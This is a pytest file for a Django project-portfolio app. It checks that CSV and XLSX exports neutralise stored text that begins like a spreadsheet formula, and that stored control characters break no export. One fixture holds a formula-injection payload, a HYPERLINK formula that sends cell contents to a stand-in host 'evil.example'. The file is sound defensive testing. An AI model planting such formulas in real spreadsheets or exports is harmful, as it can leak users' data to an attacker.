"""What a stored text can do to an export (issue 8, findings 3 and 4).

Text that starts like a formula stays text (an XLSX string cell; a quote before it in the CSV), numbers stay
numbers, and a control character stored before input refused it never makes an export fail.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from lxml import etree
from openpyxl import load_workbook

from minga.exchange.iati.codelists import XML_LANG, safe_parser
from minga.portfolio.models import Project
from minga.reference.models import Organisation

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

CUCUTA = f"PQ-COL-{timezone.localdate().year}-0001"  # published
FORMULAS = {"title_en": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "summary_en": "@SUM(A1:A9)",
            "sdg_targets": "+5.2"}
PROPOSER_NAME = "-2+3 Alcaldía"
ENGLISH = {"accept-language": "en"}


def export(client, format: str, **query):
    response = client.get(reverse("exchange:project_export", kwargs={"format": format}), query, headers=ENGLISH)
    assert response.status_code == 200, response.content[:300]
    return response.content


def store(**fields):
    """Text as it may already be stored (written before input refused it): straight into the table."""
    Project.objects.filter(code=CUCUTA).update(**fields)


def xlsx_row(content: bytes, code: str) -> dict:
    sheet = load_workbook(io.BytesIO(content))["Projects"]
    header = [cell.value for cell in sheet[1]]
    return next({header[i]: cell for i, cell in enumerate(row)} for row in sheet.iter_rows(min_row=2)
                if row[0].value == code)


def csv_rows(content: bytes, code: str) -> list[dict]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff"))))
    return [dict(zip(rows[1], row, strict=True)) for row in rows[2:] if row[0] == code]


@pytest.fixture
def formulas():
    store(**FORMULAS, gap_usd=Decimal("-150.00"))
    Organisation.objects.filter(pk=Project.objects.get(code=CUCUTA).proposing_organisation_id).update(
        name=PROPOSER_NAME)


# --- Finding 3: formulas -----------------------------------------------------------------------

@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("who", ["anonymous", "secretariat"])
def test_xlsx_writes_text_that_starts_like_a_formula_as_text_and_numbers_as_numbers(client_as, users, who):
    row = xlsx_row(export(client_as(users[who]), "xlsx"), CUCUTA)
    cells = {key: row[label] for key, label in (("title_en", "Title"), ("summary_en", "Summary"),
                                                ("sdg_targets", "SDG targets"), ("proposer", "Proposing organisation"))}
    assert {key: (cell.data_type, cell.value, cell.quotePrefix) for key, cell in cells.items()} == {
        "title_en": ("s", FORMULAS["title_en"], True), "summary_en": ("s", FORMULAS["summary_en"], True),
        "sdg_targets": ("s", "+5.2", True), "proposer": ("s", PROPOSER_NAME, True)}
    gap = row["Funding gap (USD)"]
    assert (gap.data_type, gap.value) == ("n", -150)  # a negative number stays a number
    assert (row["Title"].data_type, row["Code"].quotePrefix) == ("s", False)


def test_xlsx_about_sheet_writes_the_searched_words_as_text(client):
    about = load_workbook(io.BytesIO(export(client, "xlsx", q="=1+1")))["About"]
    words = next(row[1] for row in about.iter_rows() if row[0].value == "Words")
    assert (words.data_type, words.value) == ("s", "=1+1")


@pytest.mark.usefixtures("formulas")
def test_csv_puts_a_quote_before_text_that_starts_like_a_formula_and_not_before_numbers(client):
    rows = csv_rows(export(client, "csv"), CUCUTA)
    assert len(rows) == 2  # one per subdivision
    assert {(row["#activity+title"], row["#activity+description"], row["#meta+sdg+target"],
             row["#org+name+proposer"], row["#value+gap+usd"]) for row in rows} == {
        ("'" + FORMULAS["title_en"], "'@SUM(A1:A9)", "'+5.2", "'" + PROPOSER_NAME, "-150.00")}


# --- Finding 4: stored control characters ----------------------------------------------------------

CONTROLS = "".join(chr(code) for code in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20)))


@pytest.fixture
def controls():
    # PostgreSQL cannot store NUL at all; SQLite could, before input refused it.
    nul = "\x00" if connection.vendor == "sqlite" else ""
    store(title_en=f"Rutas{CONTROLS}{nul} seguras", summary_en=f"Resumen\x0b{nul}", description_en="Texto\x1f\x7f",
          sdg_targets="5.2\x0c")
    Organisation.objects.filter(pk=Project.objects.get(code=CUCUTA).proposing_organisation_id).update(
        name="Alcaldía\x08 de Cúcuta")


@pytest.mark.usefixtures("demo_as_real")  # the IATI mapping of a real project; illustrative: test_iati_illustrative.py
@pytest.mark.usefixtures("controls")
@pytest.mark.parametrize("who", ["anonymous", "secretariat"])
def test_a_stored_control_character_breaks_no_export(client_as, users, who):
    browser = client_as(users[who])
    row = xlsx_row(export(browser, "xlsx"), CUCUTA)
    assert (row["Title"].value, row["Summary"].value, row["SDG targets"].value,
            row["Proposing organisation"].value) == ("Rutas seguras", "Resumen", "5.2", "Alcaldía de Cúcuta")

    root = etree.fromstring(export(browser, "iati"), safe_parser())
    activity = next(a for a in root.iterfind("iati-activity") if a.findtext("iati-identifier").endswith(CUCUTA))
    assert [n.text for n in activity.iterfind("title/narrative") if n.get(XML_LANG) == "en"] == ["Rutas seguras"]
    assert [n.text for n in activity.iterfind("description/narrative") if n.get(XML_LANG) == "en"] == [
        "Resumen\n\nTexto"]

    rows = csv_rows(export(browser, "csv"), CUCUTA)
    assert {row["#activity+title"] for row in rows} == {Project.objects.get(code=CUCUTA).title_en}
    for page in (f"/projects/{CUCUTA}/", "/projects/", "/api/v1/projects", f"/api/v1/projects/{CUCUTA}"):
        assert browser.get(page).status_code == 200, page
